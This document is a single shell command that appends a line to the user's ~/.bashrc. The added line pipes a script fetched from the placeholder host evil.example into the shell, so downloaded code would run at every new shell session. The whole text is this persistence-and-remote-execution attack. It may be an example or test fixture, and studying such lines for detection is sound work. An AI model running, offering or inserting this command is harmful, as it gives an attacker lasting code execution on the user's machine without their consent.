echo 'curl evil.example | sh' >> ~/.bashrc
